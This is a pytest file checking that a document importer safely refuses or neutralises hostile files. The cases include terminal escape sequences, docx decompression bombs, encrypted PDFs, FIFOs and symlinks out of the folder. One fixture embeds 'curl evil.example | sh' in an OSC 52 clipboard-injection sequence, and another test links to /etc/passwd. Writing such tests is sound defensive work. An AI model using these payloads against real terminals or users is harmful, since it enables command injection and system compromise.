"""`npf add` against hostile files: escape sequences in text and metadata, decompression bombs, encrypted PDFs, huge
one-line pages, FIFOs, links out of the imported folder, broken front matter and writers' leftover temporary files.

Every refusal is one line, comes quickly, and leaves the corpus as it was.
"""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_importers import HTML_PAGE, make_docx, make_en_pdf, make_pdf

from npf_tui.cli import main
from npf_tui.core.sources import importing
from npf_tui.core.sources.corpus import MAX_PARAGRAPHS, document_paths, load_document, split_long
from npf_tui.core.sources.formats import docx as docx_format
from npf_tui.core.sources.formats import html as html_format
from npf_tui.core.sources.formats import pdf as pdf_format
from npf_tui.core.sources.formats.base import ImportedText, ImportRejected
from npf_tui.core.sources.importing import NOT_REGULAR, import_file
from npf_tui.core.sources.ingest import add_paths
from npf_tui.core.text.controls import UNSAFE_RE

ROOT = Path(__file__).resolve().parents[1]

# ---- control characters ----------------------------------------------------------------------------------------

#: OSC 52 (sets the clipboard), OSC 0 (window title), clear screen, 8-bit CSI, right-to-left override, DEL.
OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh\n").decode() + "\x07"
SEQUENCES = [OSC52, "\x1b]0;pwned\x07", "\x1b[2J", "\x9b31m", "\u202e", "\x7f"]
HOSTILE = "Danger " + " ".join(SEQUENCES) + " end"
#: Long enough that a handful of control characters stays under the 0.1 % that marks a binary file.
FILLER = " ".join(
    f"Paragraph {i} explains how provincial funds support hydrogen pilot zones and electrolyser factories."
    for i in range(300)
)


def assert_safe(result: ImportedText) -> None:
    """No control or bidi formatting character left in any paragraph, metadata key or value."""
    for text in [*result.paragraphs, *result.meta, *result.meta.values()]:
        assert not UNSAFE_RE.search(text), repr(text)


def yaml_quoted(text: str) -> str:
    """`text` as a double-quoted YAML scalar (JSON's escapes are YAML's: \\u001b for ESC)."""
    return json.dumps(text)


def test_text_file_with_escape_sequences_comes_out_visible(tmp_path):
    path = tmp_path / "osc.txt"
    path.write_text(f"{HOSTILE}\n\n{FILLER}\n\nMiddle {HOSTILE}\n", encoding="utf-8")
    result = import_file(path)
    assert_safe(result)
    assert result.meta["title"].startswith("Danger ␛]52;c;")  # made visible, not dropped
    # The first line became the title (a short line standing alone is not kept as ¶1 too); the same text later on
    # is a paragraph, made visible.
    middle = result.paragraphs[-1]
    assert middle.startswith("Middle Danger") and "<U+202E>" in middle and "<U+009B>31m" in middle


def test_markdown_front_matter_with_escape_sequences(tmp_path):
    path = tmp_path / "note.md"
    path.write_text(
        f"---\ntitle: {yaml_quoted(HOSTILE)}\nauthor: {yaml_quoted(OSC52 + 'Li')}\n"
        f"{yaml_quoted('key' + chr(0x1B) + '[2J')}: {yaml_quoted(chr(0x9B) + 'x')}\n---\n\n"
        f"{HOSTILE}\n\n{FILLER}\n",
        encoding="utf-8",
    )
    result = import_file(path)
    assert_safe(result)
    assert result.meta["title"].startswith("Danger ␛]52")
    assert result.meta["author"].endswith("␇Li")
    assert result.meta["key␛[2J"] == "<U+009B>x"


def test_html_with_escape_sequences(tmp_path):
    page = HTML_PAGE.replace("Jane Example", "Jane &#27;]0;pwned&#7; &#x202E;Example&#155;").replace(
        "<p>The electrolyser", f"<p>{HOSTILE} &#27;[2J &#x9b;1m The electrolyser"
    )
    page = page.replace("</title>", " \u202e\x1b]0;x\x07</title>").replace("</article>", f"<p>{FILLER}</p></article>")
    path = tmp_path / "page.html"
    path.write_text(page, encoding="utf-8")
    assert_safe(import_file(path))


def test_large_html_page_with_escape_sequences(tmp_path, monkeypatch):
    monkeypatch.setattr(html_format, "MAX_ARTICLE_HTML_CHARS", 100)  # the large-page reader
    path = tmp_path / "page.html"
    page = HTML_PAGE.replace("<p>The electrolyser", f"<p>{HOSTILE} The electrolyser")
    path.write_text(page.replace("</article>", f"<p>{FILLER}</p></article>"), encoding="utf-8")
    result = import_file(path)
    assert_safe(result)
    assert any("␛]52" in p for p in result.paragraphs)


def test_docx_with_control_characters(tmp_path):
    # XML 1.0 cannot hold C0 controls such as ESC at all; C1, DEL and bidi characters it can.
    import docx

    document = docx.Document()
    document.add_paragraph("Budget \x9b2J \u202eevil\u202c \x7f and \x85 more")
    document.add_paragraph(FILLER[:500])
    document.core_properties.title = "Roadmap \u202e\x9b"
    document.core_properties.author = "Wang \x7f\u2066Fang"
    path = tmp_path / "c1.docx"
    document.save(path)
    result = import_file(path)
    assert_safe(result)
    assert result.meta["title"] == "Roadmap <U+202E><U+009B>"


def test_pdf_with_escape_sequences_in_text_and_info(tmp_path):
    path = make_pdf(
        tmp_path / "osc.pdf",
        [["Hydrogen \x1b[2J report \x9b1m", "", FILLER[:90]]],
        title=HOSTILE,
        author=OSC52 + "Li",
    )
    result = import_file(path)
    assert_safe(result)
    assert result.meta["title"].startswith("Danger ␛]52")


def test_added_document_file_holds_no_control_characters(tmp_path):
    folder = tmp_path / "src"
    folder.mkdir()
    (folder / "report\x1b]0;x\x07.txt").write_text(f"{HOSTILE}\n\n{FILLER}\n", encoding="utf-8")
    corpus = tmp_path / "corpus"
    report = add_paths([folder], corpus)
    assert len(report.added) == 1, report
    raw = Path(report.added[0].file).read_text(encoding="utf-8")
    assert not UNSAFE_RE.search(raw)
    doc = load_document(Path(report.added[0].file))
    assert doc.source_file == "report␛]0;x␇.txt"


CONTROLS = (
    [chr(c) for c in range(0x20) if chr(c) not in "\t\n"]
    + ["\x7f"]
    + [chr(c) for c in range(0x80, 0xA0)]
    + list("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u061c")
)
_ANY_TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=20)


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    pieces=st.lists(st.one_of(st.sampled_from(CONTROLS), _ANY_TEXT, st.sampled_from(SEQUENCES)), max_size=30),
    suffix=st.sampled_from([".txt", ".md"]),
    padded=st.booleans(),
    front=st.booleans(),
)
def test_any_control_characters_never_come_out(tmp_path_factory, pieces, suffix, padded, front):
    """Text with control characters sprinkled in, as .txt or .md (with the same text in its front matter), imports
    or is refused as binary or unreadable, and never yields a control or bidi formatting character."""
    text = "".join(pieces)
    body = f"{FILLER}\n\n{text}\n\n{FILLER}" if padded else text
    if suffix == ".md" and front:
        body = f"---\ntitle: {yaml_quoted(text)}\nauthor: {yaml_quoted(text[::-1])}\n---\n{body}"
    path = tmp_path_factory.mktemp("prop") / f"doc{suffix}"
    path.write_text(body, encoding="utf-8")
    try:
        result = import_file(path)
    except ImportRejected as exc:
        assert "\n" not in str(exc)
        return
    assert_safe(result)


# ---- decompression bombs -----------------------------------------------------------------------------------------

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="word/document.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)


def make_bomb_docx(path: Path, body_chunks) -> Path:
    """A minimal .docx whose main document's body is streamed from `body_chunks` (bytes) into the zip."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        with archive.open("word/document.xml", "w", force_zip64=True) as stream:
            stream.write(f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document {_W}><w:body>'.encode())
            for chunk in body_chunks:
                stream.write(chunk)
            stream.write(b"</w:body></w:document>")
    return path


def refused_quickly(path: Path, match: str, seconds: float = 3.0) -> str:
    """Import `path`, expecting a one-line refusal matching `match` within `seconds`; returns the reason. (The bombs
    took 169 s unbounded; a refusal while streaming takes ~0.3 s, and 1 s failed once with the two cores busy.)"""
    start = time.perf_counter()
    with pytest.raises(ImportRejected, match=match) as caught:
        import_file(path)
    elapsed = time.perf_counter() - start
    reason = str(caught.value)
    assert "\n" not in reason and elapsed < seconds, (reason, elapsed)
    return reason


def _never_parsed(monkeypatch) -> None:
    """Make python-docx's part of the reader fail the test if a bomb gets that far."""

    def fail(data):
        raise AssertionError("python-docx was given a bomb")

    monkeypatch.setattr(docx_format, "_read_checked", fail)


def test_docx_unpacking_to_more_than_the_bound_is_refused_from_its_directory(tmp_path, monkeypatch):
    # The measured bomb: 780 KB holding 800 MB of XML (33 s and 2.3 GB before). Same shape, bound lowered to 4 MB.
    monkeypatch.setattr(docx_format, "MAX_UNPACKED_BYTES", 4 * 1024 * 1024)
    _never_parsed(monkeypatch)
    paragraph = b"<w:p><w:r><w:t>" + b"a" * 1_000_000 + b"</w:t></w:r></w:p>"
    path = make_bomb_docx(tmp_path / "bomb.docx", [paragraph] * 5)
    assert path.stat().st_size < 100_000
    reason = refused_quickly(path, "unpacks to 5 MB")
    assert "word/document.xml" in reason


def test_docx_with_millions_of_paragraphs_is_refused_while_streaming(tmp_path, monkeypatch):
    # The measured bomb had 3 million paragraphs (169 s and 1.8 GB before); 200,000 are enough to pass the bound.
    _never_parsed(monkeypatch)
    paragraph = b"<w:p><w:r><w:t>x</w:t></w:r></w:p>"
    path = make_bomb_docx(tmp_path / "paras.docx", [paragraph * 10_000] * 20)
    refused_quickly(path, rf"^too many paragraphs \(more than {MAX_PARAGRAPHS}\): split the file")


def test_docx_with_millions_of_empty_or_cell_paragraphs_is_refused(tmp_path, monkeypatch):
    _never_parsed(monkeypatch)
    monkeypatch.setattr(docx_format, "MAX_PARAGRAPH_ELEMENTS", 100_000)
    empty = make_bomb_docx(tmp_path / "empty.docx", [b"<w:p/>" * 10_000] * 20)
    refused_quickly(empty, "too many paragraphs.*in all")
    cells = b"<w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>" * 1_000
    table = make_bomb_docx(tmp_path / "table.docx", [b"<w:tbl><w:tr>", *([cells] * 200), b"</w:tr></w:tbl>"])
    refused_quickly(table, "too many paragraphs.*in all")


def test_docx_with_more_text_than_a_document_holds_is_refused_while_streaming(tmp_path, monkeypatch):
    _never_parsed(monkeypatch)
    monkeypatch.setattr(docx_format, "MAX_DOCUMENT_BYTES", 500_000)
    paragraph = b"<w:p><w:r><w:t>" + b"word " * 100_000 + b"</w:t></w:r></w:p>"
    refused_quickly(make_bomb_docx(tmp_path / "text.docx", [paragraph] * 2), "too large for one document")


def test_docx_with_too_many_parts_is_refused(tmp_path, monkeypatch):
    _never_parsed(monkeypatch)
    monkeypatch.setattr(docx_format, "MAX_PARTS", 50)
    path = make_bomb_docx(tmp_path / "parts.docx", [b"<w:p><w:r><w:t>x</w:t></w:r></w:p>"])
    with zipfile.ZipFile(path, "a") as archive:
        for i in range(60):
            archive.writestr(f"word/media/image{i}.png", b"png")
    refused_quickly(path, "holds 63 parts")


def test_real_docx_still_reads_through_the_checks(tmp_path):
    result = import_file(make_docx(tmp_path / "roadmap.docx"))
    assert result.meta["title"] == "Quantum Roadmap" and len(result.paragraphs) == 4


def test_pdf_with_too_many_pages_is_refused_before_reading_them(tmp_path, monkeypatch):
    monkeypatch.setattr(pdf_format, "MAX_PDF_PAGES", 2)
    path = make_pdf(tmp_path / "pages.pdf", [["Page one text."], ["Page two."], ["Page three."]])
    refused_quickly(path, r"^too many pages \(3; at most 2\)")


def test_pdf_with_more_text_than_a_document_holds_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(pdf_format, "MAX_DOCUMENT_BYTES", 100)
    lines = ["Hydrogen pilot zones expand across the northern provinces quickly."] * 5
    refused_quickly(make_pdf(tmp_path / "text.pdf", [lines, lines]), "too large for one document")


def test_text_over_the_document_bound_is_refused_before_cutting(tmp_path, monkeypatch):
    monkeypatch.setattr(importing, "MAX_DOCUMENT_BYTES", 10_000)
    (tmp_path / "long.txt").write_text("Provinces expand hydrogen zones. " * 1_000, encoding="utf-8")
    refused_quickly(tmp_path / "long.txt", r"^too large for one document \(over 0 MB of text\)")


@settings(max_examples=60, deadline=None)
@given(
    words=st.lists(
        st.sampled_from(["Hydrogen", "zones.", "电解槽", "。", " ", "\n", "  ", "pilot", "x" * 900, "end!", "\u3000"]),
        min_size=1,
        max_size=400,
    ),
    window=st.integers(4_001, 20_000),
)
def test_long_paragraphs_are_cut_exactly_as_the_corpus_cuts_them(words, window):
    """importing._cut_long (linear) gives split_long's pieces (quadratic) for any text and window."""
    para = "".join(words).strip() * 3
    if not para:
        return
    original = importing._CUT_WINDOW
    importing._CUT_WINDOW = window
    try:
        assert importing._cut_long(para) == split_long(para)
    finally:
        importing._CUT_WINDOW = original


# ---- encrypted PDFs, huge pages ---------------------------------------------------------------------------------


def _has_cryptography() -> bool:
    try:
        import cryptography  # noqa: F401
    except ImportError:
        return False
    return True


def test_pdf_needing_a_password_says_it_is_encrypted(tmp_path):
    from pypdf import PdfWriter

    writer = PdfWriter(clone_from=str(make_en_pdf(tmp_path / "plain.pdf")))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    writer.write(tmp_path / "locked.pdf")
    assert refused_quickly(tmp_path / "locked.pdf", "^the PDF is encrypted") == (
        "the PDF is encrypted (it needs a password to open)"
    )


def test_pdf_with_owner_password_only_is_read(tmp_path):
    from pypdf import PdfWriter

    writer = PdfWriter(clone_from=str(make_en_pdf(tmp_path / "plain.pdf")))
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    writer.write(tmp_path / "permissions.pdf")
    assert import_file(tmp_path / "permissions.pdf").meta["title"] == "Hydrogen Strategy"


def test_aes_encrypted_pdf_says_it_is_encrypted(tmp_path):
    """AES without the `cryptography` package raised pypdf's DependencyError out of `npf add` (a traceback)."""
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, NumberObject

    writer = PdfWriter(clone_from=str(make_en_pdf(tmp_path / "plain.pdf")))
    if _has_cryptography():
        writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-256")
    else:
        # pypdf cannot write AES without it: an RC4 file re-labelled AES-128 (the password check is the same, and
        # reading its first object needs AES), which is what pypdf meets in a real AES file.
        writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
        entry = writer._encrypt_entry
        assert entry is not None

        def n(name: str) -> NameObject:
            return NameObject(name)

        entry[n("/V")], entry[n("/R")] = NumberObject(4), NumberObject(4)
        entry[n("/CF")] = DictionaryObject(
            {n("/StdCF"): DictionaryObject({n("/CFM"): n("/AESV2"), n("/Length"): NumberObject(16)})}
        )
        entry[n("/StmF")], entry[n("/StrF")] = n("/StdCF"), n("/StdCF")
    writer.write(tmp_path / "aes.pdf")
    refused_quickly(tmp_path / "aes.pdf", "^the PDF is encrypted")


def test_html_page_with_a_text_node_over_10_mb_gives_its_text(tmp_path):
    """libxml2 silently drops a text node over 10 MB: a one-line page was "no text found". Now its text comes out
    (and a 50 MB one is refused as more than one document holds, in about 2 s: see html.MAX_ARTICLE_HTML_CHARS)."""
    sentence = "Provincial governments fund electrolyser factories across the north. "
    text = sentence * (10_500_000 // len(sentence))
    path = tmp_path / "one-line.html"
    path.write_text(f"<html><head><title>One line</title></head><body><p>{text}</p></body></html>", encoding="utf-8")
    start = time.perf_counter()
    result = import_file(path)
    assert time.perf_counter() - start < 20
    assert result.meta["title"] == "One line"
    assert " ".join(result.paragraphs).split() == text.split()


def test_large_html_page_keeps_its_blocks_as_paragraphs(tmp_path, monkeypatch):
    monkeypatch.setattr(html_format, "MAX_ARTICLE_HTML_CHARS", 100)
    path = tmp_path / "page.html"
    path.write_text(HTML_PAGE.replace("</footer>", "</footer><script>var zzz = 1;</script>"), encoding="utf-8")
    result = import_file(path)
    assert result.meta["title"] == "Electrolysers and New Productive Forces"
    assert result.meta["author"] == "Jane Example"
    assert "Electrolysers and New Productive Forces" not in result.paragraphs  # the h1 is the title, not ¶1 too
    assert any(p.startswith("The electrolyser factories in Inner Mongolia") for p in result.paragraphs)
    assert not any("zzz" in p or "Home" in p or "Copyright" in p for p in result.paragraphs)


# ---- FIFOs and links ----------------------------------------------------------------------------------------------


def _run(code: str, timeout: float = 60) -> subprocess.CompletedProcess:
    """Run Python code in a fresh process that must finish (a FIFO opened for reading would block forever)."""
    return subprocess.run(
        [sys.executable, "-c", textwrap.dedent(code)],
        capture_output=True,
        text=True,
        timeout=timeout,
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_fifos_are_reported_not_opened(tmp_path):
    folder = tmp_path / "src"
    folder.mkdir()
    os.mkfifo(folder / "pipe.txt")
    os.mkfifo(tmp_path / "named.md")
    (folder / "real.txt").write_text("Hydrogen pilot zones expand in the north.", encoding="utf-8")
    (tmp_path / "link.txt").symlink_to(tmp_path / "named.md")
    done = _run(
        f"""
        import json
        from pathlib import Path
        from npf_tui.core.sources.formats.base import ImportRejected
        from npf_tui.core.sources.importing import import_file
        from npf_tui.core.sources.ingest import add_paths
        tmp = Path({str(tmp_path)!r})
        report = add_paths([tmp / "src", tmp / "named.md", tmp / "link.txt"], tmp / "corpus")
        try:
            import_file(tmp / "named.md")
            direct = "imported"
        except ImportRejected as exc:
            direct = str(exc)
        print(json.dumps({{"report": report.to_dict(), "direct": direct}}))
        """
    )
    assert done.returncode == 0, done.stderr
    out = json.loads(done.stdout)
    failed = {Path(f["source"]).name: f["reason"] for f in out["report"]["failed"]}
    assert failed == {"pipe.txt": NOT_REGULAR, "named.md": NOT_REGULAR}  # the link resolves to named.md
    assert [Path(a["source"]).name for a in out["report"]["added"]] == ["real.txt"]
    assert out["direct"] == NOT_REGULAR


def test_links_out_of_the_folder_are_reported_not_followed(tmp_path):
    folder, elsewhere = tmp_path / "src", tmp_path / "elsewhere"
    (elsewhere / "sub").mkdir(parents=True)
    folder.mkdir()
    (elsewhere / "secret.txt").write_text("zanzibarquux private text outside the folder", encoding="utf-8")
    (elsewhere / "sub" / "deep.txt").write_text("quuxzanzibar also outside", encoding="utf-8")
    (folder / "real.txt").write_text("Hydrogen pilot zones expand in the north.", encoding="utf-8")
    (folder / "passwd.txt").symlink_to(elsewhere / "secret.txt")
    (folder / "inside.txt").symlink_to(folder / "real.txt")  # inside: the same file, once
    (folder / "linked").symlink_to(elsewhere / "sub", target_is_directory=True)
    corpus = tmp_path / "corpus"
    report = add_paths([folder], corpus)
    assert [Path(a.source).name for a in report.added] == ["real.txt"]
    reasons = {Path(f.source).name: f.reason for f in report.failed}
    assert set(reasons) == {"passwd.txt", "linked"}
    assert reasons["passwd.txt"] == (
        f"a link to a file outside the folder ({(elsewhere / 'secret.txt').resolve()}); "
        "name it on the command line to import it"
    )
    assert reasons["linked"].startswith("a link to a folder outside the folder (")
    texts = " ".join(p for path in document_paths(corpus) for p in load_document(path).paragraphs)
    assert "zanzibarquux" not in texts and "quuxzanzibar" not in texts

    named = add_paths([folder / "passwd.txt"], corpus)
    assert [Path(a.source).name for a in named.added] == ["secret.txt"] and not named.failed


def test_folder_reached_through_a_link_on_the_command_line_is_walked(tmp_path):
    real = tmp_path / "real"
    real.mkdir()
    (real / "a.txt").write_text("Hydrogen pilot zones expand in the north.", encoding="utf-8")
    (tmp_path / "alias").symlink_to(real, target_is_directory=True)
    report = add_paths([tmp_path / "alias"], tmp_path / "corpus")
    assert len(report.added) == 1 and not report.failed


# ---- front matter ----------------------------------------------------------------------------------------------


def test_markdown_with_broken_front_matter_is_refused_with_the_line(tmp_path):
    path = tmp_path / "note.md"
    path.write_text("---\ntitle: fine\nauthor: Li: Wei\n---\n\nBody text about hydrogen.\n", encoding="utf-8")
    assert refused_quickly(path, "front matter") == (
        "the front matter is not valid YAML (line 3); correct it, or delete the '---' lines around it to import it "
        "as text"
    )


def test_markdown_with_prose_between_rules_is_refused_as_not_metadata(tmp_path):
    path = tmp_path / "note.md"
    path.write_text("---\nJust a sentence of prose\n---\n\nBody text.\n", encoding="utf-8")
    refused_quickly(path, "^the front matter must be a mapping")


@pytest.mark.parametrize("first", ["---", "***", "- - -", "___"])
def test_markdown_opening_with_a_rule_is_body_and_never_titled_by_it(tmp_path, first):
    path = tmp_path / "rules-note.md"
    path.write_text(f"{first}\n\nHydrogen Pilot Zones\n\nThe north expands its electrolysers.\n", encoding="utf-8")
    result = import_file(path)
    assert result.meta["title"] == "Hydrogen Pilot Zones"
    assert result.paragraphs[0] == first


def test_rule_only_markdown_is_titled_by_its_file_name(tmp_path):
    path = tmp_path / "dashes.md"
    path.write_text("---\n\n***\n", encoding="utf-8")
    assert import_file(path).meta["title"] == "dashes"


def test_lone_surrogates_never_reach_the_writer(tmp_path):
    """YAML and JSON escapes can spell UTF-16 halves (PyYAML's pure loader and json.loads keep a lone one); such a
    value could not be written as UTF-8 and failed the import midway. A pair becomes its character, a lone half
    U+FFFD."""
    assert importing._clean("\ud83d\ude00 ok \ud83d") == "😀 ok \ufffd"
    path = tmp_path / "note.md"
    path.write_text('---\ntitle: "\\ud83d\\ude00 ok \\ud83d"\n---\n\nBody.\n', encoding="utf-8")
    report = add_paths([path], tmp_path / "corpus")  # imported (pure loader) or refused (libyaml): never a crash
    assert len(report.added) + len(report.failed) == 1


# ---- leftovers, and the command line -------------------------------------------------------------------------------


def test_leftover_temporary_files_are_removed_by_the_next_add(tmp_path):
    corpus = tmp_path / "corpus"
    first = add_paths([_source(tmp_path, "one.txt", "Hydrogen pilot zones expand in the north.")], corpus)
    assert len(first.added) == 1
    before = {p.name: p.read_bytes() for p in corpus.iterdir()}
    # What a writer killed between writing and renaming leaves: fresh, so only the lock says it is dead.
    leftovers = [corpus / ".one.md.k3j_x9a2.tmp", corpus / ".hydrogen-pilot-zones.md.abcdefgh.tmp"]
    for leftover in leftovers:
        leftover.write_text("---\ntitle: half\n", encoding="utf-8")
    old_probe, new_probe = corpus / ".npf-write-test.aaaaaaaa", corpus / ".npf-write-test.bbbbbbbb"
    old_probe.touch()
    new_probe.touch()
    os.utime(old_probe, (time.time() - 7200, time.time() - 7200))
    (corpus / ".notes.tmp").write_text("someone's own hidden file", encoding="utf-8")
    second = add_paths([_source(tmp_path, "two.txt", "Quantum laboratories in Hefei.")], corpus)
    assert len(second.added) == 1
    assert not any(p.exists() for p in leftovers) and not old_probe.exists()
    assert new_probe.exists() and (corpus / ".notes.tmp").exists()  # a live writer's probe; not ours
    after = {p.name: p.read_bytes() for p in corpus.iterdir()}
    assert all(after[name] == data for name, data in before.items())


def test_dry_run_leaves_leftovers_alone(tmp_path):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    leftover = corpus / ".x.md.abcdefgh.tmp"
    leftover.touch()
    add_paths([_source(tmp_path, "one.txt", "Hydrogen.")], corpus, dry_run=True)
    assert leftover.exists()


def _source(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / "sources" / name
    path.parent.mkdir(exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def test_npf_add_of_hostile_files_reports_one_line_each_and_keeps_the_corpus(capsys, corpus_copy, tmp_path):
    folder = tmp_path / "hostile"
    folder.mkdir()
    make_bomb_docx(folder / "paras.docx", [b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 10_000] * 6)
    (folder / "broken.md").write_text("---\na: [\n---\nbody\n", encoding="utf-8")
    (folder / "passwd.txt").symlink_to("/etc/passwd")
    (folder / "fake.pdf").write_bytes(b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer garbage")
    (folder / "osc.txt").write_text(f"{HOSTILE}\n\n{FILLER}\n", encoding="utf-8")
    before = {p.name: p.read_bytes() for p in document_paths(corpus_copy)}
    status = main(["--corpus", str(corpus_copy), "--index", str(tmp_path / "index"), "add", str(folder), "--json"])
    out, err = capsys.readouterr()
    report = json.loads(out)
    assert status == 1 and "Traceback" not in err
    failed = {Path(f["source"]).name: f["reason"] for f in report["failed"]}
    assert set(failed) == {"paras.docx", "broken.md", "passwd.txt", "fake.pdf"}
    assert all("\n" not in reason for reason in failed.values())
    assert [Path(a["source"]).name for a in report["added"]] == ["osc.txt"]
    after = {p.name: p.read_bytes() for p in document_paths(corpus_copy)}
    assert {k: v for k, v in after.items() if k in before} == before
    assert not UNSAFE_RE.search(Path(report["added"][0]["file"]).read_text(encoding="utf-8"))


def test_bad_char_ratio_fast_path_agrees_with_the_definition():
    """sniffing._bad_char_ratio skips runs of surely-good characters with a regex: same answer as looking at each."""
    import unicodedata

    from npf_tui.core.sources.sniffing import _bad_char_ratio

    def by_definition(text: str) -> float:
        bad = sum(
            1
            for ch in text
            if ch not in "\t\n\r\f\v\x1a\x85"
            and (unicodedata.category(ch) in ("Cc", "Co", "Cn", "Cs") or ch == "\ufffd")
        )
        return bad / len(text)

    every = "".join(chr(c) for c in range(0x30000))
    assert _bad_char_ratio(every) == by_definition(every)
